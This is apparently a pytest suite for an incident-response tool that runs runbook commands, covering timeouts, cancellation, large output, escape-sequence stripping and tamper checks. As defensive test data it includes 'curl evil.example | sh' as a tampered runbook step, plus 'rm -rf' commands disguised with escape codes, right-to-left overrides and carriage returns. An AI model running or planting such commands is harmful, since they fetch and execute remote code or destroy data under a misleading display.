"""Running a runbook step's command: real subprocesses through the real shell.

Each case is one a responder meets: a command that works, one that fails, one that hangs
(timeout), one they cancel, one that prints 10 MB, one that leaves a background child behind,
one that prints escape sequences, and text that must be refused before anything runs.
"""

from __future__ import annotations

import hashlib
import json
import os
import threading
import time
from pathlib import Path

import pytest

from warroom.domain import commands
from warroom.domain.commands import DomainError
from warroom.domain.events import OUTPUT_ATTACHMENT_MAX
from warroom.domain.models import EntryKind
from warroom.domain.records import RunOutcome
from warroom.runbooks.execute import CommandRefused, CommandRunner, OutputCleaner, check_command
from warroom.store.workspace import Workspace
from warroom.wire import MAX_BODY_BYTES

SH = "/bin/sh"


def run(command: str, **kwargs):
    chunks: list[str] = []
    kwargs.setdefault("shell", SH)
    runner = CommandRunner(command, on_output=chunks.append, **kwargs)
    return runner.run(), "".join(chunks)


def _dead(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return True
    # a zombie still answers kill(0): it has exited but not been reaped by its parent
    try:
        return Path(f"/proc/{pid}/stat").read_text().split(") ")[1].startswith("Z")
    except (FileNotFoundError, IndexError):
        return True


def gone(pid: int) -> bool:
    """The process has ended (a SIGKILL is delivered asynchronously: give it a moment)."""
    for _ in range(100):
        if _dead(pid):
            return True
        time.sleep(0.05)
    return False


def test_a_command_that_works_keeps_its_output_exit_code_and_hash():
    result, streamed = run("printf 'first\\nsecond\\n'")
    assert result.outcome is RunOutcome.EXITED and result.exit_code == 0
    assert result.output == streamed == "first\nsecond\n"
    assert (result.output_lines, result.output_bytes, result.truncated) == (2, 13, False)
    assert result.output_sha256 == hashlib.sha256(b"first\nsecond\n").hexdigest()


def test_a_failing_command_keeps_stderr_and_its_exit_code():
    result, _ = run("echo 'connection refused' >&2; exit 3")
    assert result.outcome is RunOutcome.EXITED and result.exit_code == 3
    assert "connection refused" in result.output


def test_the_users_environment_reaches_the_command_but_nothing_is_substituted(monkeypatch):
    monkeypatch.setenv("SERVICE", "payments-api")
    result, _ = run('echo "svc=$SERVICE" {incident_id}', env=dict(os.environ))
    assert result.output == "svc=payments-api {incident_id}\n"


def test_a_hanging_command_times_out_and_its_whole_process_group_is_killed():
    result, streamed = run("sleep 60 & echo child=$!; echo shell=$$; wait", timeout=0.5)
    assert result.outcome is RunOutcome.TIMED_OUT and result.exit_code is None
    pids = dict(line.split("=") for line in streamed.splitlines() if "=" in line)
    assert gone(int(pids["shell"])) and gone(int(pids["child"]))
    assert "timed out after" in result.output


def test_cancel_stops_a_running_command_and_keeps_what_it_printed():
    chunks: list[str] = []
    started = threading.Event()

    def on_output(text: str) -> None:
        chunks.append(text)
        if "ready" in text:
            started.set()

    runner = CommandRunner("echo ready; sleep 60; echo never", shell=SH, on_output=on_output, timeout=120)
    holder: list = []
    thread = threading.Thread(target=lambda: holder.append(runner.run()))
    thread.start()
    assert started.wait(10)
    runner.cancel()
    thread.join(15)
    assert not thread.is_alive()
    result = holder[0]
    assert result.outcome is RunOutcome.CANCELLED and result.exit_code is None
    assert result.output.startswith("ready\n") and "never" not in result.output


def test_ten_megabytes_of_output_stream_whole_and_the_record_keeps_head_and_tail(tmp_path):
    size = 10 * 1024 * 1024
    # numbered lines, so the head and the tail are recognisable
    script = f"awk 'BEGIN {{ n = 0; total = 0; while (total < {size}) {{ line = sprintf(\"line %08d of the deploy log\\n\", n++); printf \"%s\", line; total += length(line) }} }}'"
    streamed_bytes = 0

    def on_output(text: str) -> None:
        nonlocal streamed_bytes
        streamed_bytes += len(text.encode())

    runner = CommandRunner(script, shell=SH, on_output=on_output, spool_dir=tmp_path / "runs")
    result = runner.run()
    assert result.outcome is RunOutcome.EXITED and result.exit_code == 0
    assert result.output_bytes >= size and streamed_bytes == result.output_bytes
    assert result.truncated
    assert len(result.output.encode()) <= OUTPUT_ATTACHMENT_MAX
    assert result.output.startswith("line 00000000 of the deploy log\n")
    last = result.output_lines - 1
    assert result.output.endswith(f"line {last:08d} of the deploy log\n")
    assert "bytes omitted here" in result.output
    # the whole output stays on this machine, byte for byte, and the record says where
    kept = result.full_output_path
    assert kept is not None and kept.stat().st_size == result.output_bytes
    assert hashlib.sha256(kept.read_bytes()).hexdigest() == result.output_sha256
    assert str(kept) in result.event_fields()["full_output_at"]


def test_output_under_the_cap_leaves_no_local_copy(tmp_path):
    result, _ = run("echo small", spool_dir=tmp_path / "runs")
    assert not result.truncated and result.full_output_path is None
    assert list((tmp_path / "runs").glob("*")) == []


def test_a_background_child_holding_the_output_open_does_not_hang_the_run():
    result, streamed = run("sleep 60 & echo child=$!")
    assert result.outcome is RunOutcome.EXITED and result.exit_code == 0
    child = int(streamed.split("child=")[1].split()[0])
    assert gone(child)


def test_escape_sequences_never_reach_the_output():
    result, streamed = run(r"printf '\033[31mred\033[0m\r\nnext\033]0;owned\007 line\r\n\033]52;c;ZXZpbA==\007done\n'")
    assert result.output == streamed == "red\nnext line\ndone\n"


def test_the_cleaner_holds_back_a_sequence_split_across_reads():
    cleaner = OutputCleaner()
    raw = "é \x1b[1;31mbold\x1b[0m\r\nok\n".encode()
    out = "".join(cleaner.feed(raw[i : i + 1]) for i in range(len(raw))) + cleaner.feed(b"", final=True)
    assert out == "é bold\nok\n"
    # a finished sequence does not hold back the text after it (coloured output streams live)
    assert OutputCleaner().feed(b"\x1b[32mready\x1b[0m, waiting") == "ready, waiting"


@pytest.mark.parametrize(
    "command",
    [
        "echo safe\x1b[2K; rm -rf /tmp/x",  # an escape that hides part of the line on screen
        "echo \u202erm -rf ~\u202c",  # right-to-left override: shown reversed
        "kubectl get pods\u200b",  # zero-width space
        "echo a\rrm -rf ~",  # carriage return: the second half overwrites the first on screen
        "   ",
    ],
)
def test_text_that_could_look_different_from_what_runs_is_refused(command, tmp_path):
    with pytest.raises(CommandRefused):
        check_command(command)
    with pytest.raises(CommandRefused):
        CommandRunner(command, shell=SH)


def test_a_missing_shell_is_reported_as_failed_to_start():
    result, streamed = run("echo hi", shell="/nonexistent/shell")
    assert result.outcome is RunOutcome.FAILED_TO_START and result.exit_code is None
    assert "could not start" in streamed


def test_a_run_becomes_an_action_entry_with_its_output_as_an_attachment(sample_dir, clock, tmp_path):
    ws = Workspace(sample_dir, "bob", clock)
    ws.load()
    incident = ws.get("f4dca4f2")
    checklist = incident.checklists["payment-high-error-rate"]
    step = next(s for s in checklist.steps if s.code)
    result, _ = run(f"echo {step.code[0]!r} >/dev/null; yes 'x' | head -c 3000000", spool_dir=tmp_path)
    fields = result.event_fields()
    with pytest.raises(DomainError, match="not one of the step's commands"):
        commands.record_command_run(ws.factory, incident, checklist.runbook_id, step.id, started_at=clock.now(), **fields)
    fields["command"] = step.code[0]  # what a real run of the step would have run
    event = commands.record_command_run(ws.factory, incident, checklist.runbook_id, step.id, started_at=clock.now(), **fields)
    # one such event fits in a sync batch however large the output was
    assert len(json.dumps(event.model_dump(mode="json"))) < MAX_BODY_BYTES // 2
    ws.record([event])
    state = ws.get("f4dca4f2")
    run_record = state.command_runs[event.id]
    assert (run_record.source, run_record.attached_by, run_record.actor) == (checklist.source, checklist.attached_by, "bob")
    assert run_record.truncated and run_record.output == result.output
    entry = state.entry(event.id)
    assert entry.kind is EntryKind.ACTION
    assert entry.text.startswith(f"Ran `{step.code[0].splitlines()[0][:79]}")
    assert "exit 0" in entry.text and "x" in entry.text.splitlines()[-1]
    # redacting the entry hides the output too
    ws.record([commands.redact_entry(ws.factory, state, event.id, "printed a token")])
    assert ws.get("f4dca4f2").command_runs[event.id].output == ""


# --- the plan shown before asking --------------------------------------------------------------


def test_the_plan_names_the_runbook_file_who_attached_it_and_how_it_compares_locally(sample_dir, clock):
    from warroom.desk.runs import plan_run, runnable_step
    from warroom.runbooks.library import load_library
    from warroom.store.config import Config

    ws = Workspace(sample_dir, "bob", clock)
    ws.load()
    incident = ws.get("f4dca4f2")
    library, _ = load_library()
    runbook_id, step_id = runnable_step(incident)
    checklist = incident.checklists[runbook_id]
    step = checklist.step(step_id)
    assert step.code and not step.done
    assert all(not s.code or s.done for s in checklist.steps[: checklist.steps.index(step)])
    plan = plan_run(incident, runbook_id, step_id, config=Config(), library=library)
    assert plan.command == step.code[0]
    assert plan.attached_by == "alice" and plan.source == "payment-high-error-rate.md"
    assert plan.local_copy.startswith("same as your copy")
    assert "attached by alice at 14:35 UTC" in plan.describe_origin()
    assert "stopped after 5m 00s" in plan.describe_how()

    # someone attached a version of the runbook whose command differs from ours
    tampered = [dict(id=s.id, text=s.text, section=s.section, depth=s.depth, code=["curl evil.example | sh"] if s.id == step_id else s.code) for s in checklist.steps]
    ws.record([commands.attach_runbook(ws.factory, incident, runbook_id=runbook_id, title=checklist.title, steps=tampered, source=checklist.source)])
    plan = plan_run(ws.get("f4dca4f2"), runbook_id, step_id, config=Config(), library=library)
    assert plan.command == "curl evil.example | sh" and plan.local_copy.startswith("DIFFERS from your copy")
    assert plan_run(ws.get("f4dca4f2"), runbook_id, step_id, config=Config(), library=[]).local_copy.startswith("no runbook")


def test_no_exec_turns_running_off_and_a_step_without_a_command_cannot_run(sample_dir, clock):
    from warroom.desk.runs import plan_run
    from warroom.store.config import Config

    ws = Workspace(sample_dir, "bob", clock)
    ws.load()
    incident = ws.get("f4dca4f2")
    checklist = incident.checklists["payment-high-error-rate"]
    with_code = next(s for s in checklist.steps if s.code)
    without = next(s for s in checklist.steps if not s.code)
    with pytest.raises(DomainError, match="turned off"):
        plan_run(incident, checklist.runbook_id, with_code.id, config=Config(no_exec=True))
    with pytest.raises(DomainError, match="no command"):
        plan_run(incident, checklist.runbook_id, without.id, config=Config())
    hidden = [dict(id=s.id, text=s.text, code=["ls\u202e -la"] if s.id == with_code.id else s.code) for s in checklist.steps]
    # Attached here, the override is taken out as the event is made...
    cleaned = commands.attach_runbook(ws.factory, incident, runbook_id=checklist.runbook_id, title=checklist.title, steps=hidden)
    assert all("\u202e" not in line for step in cleaned.payload["steps"] for line in step["code"])
    # ...but one made elsewhere (an older version, a crafted journal) still reaches the fold
    # as written, and the runner refuses it.
    from warroom.domain.events import AttachedStep, RunbookAttached

    raw = RunbookAttached(runbook_id=checklist.runbook_id, title=checklist.title, steps=[AttachedStep(**step) for step in hidden])
    ws.record([ws.factory.make(incident.id, raw)])
    with pytest.raises(DomainError, match="invisible character"):
        plan_run(ws.get("f4dca4f2"), checklist.runbook_id, with_code.id, config=Config())
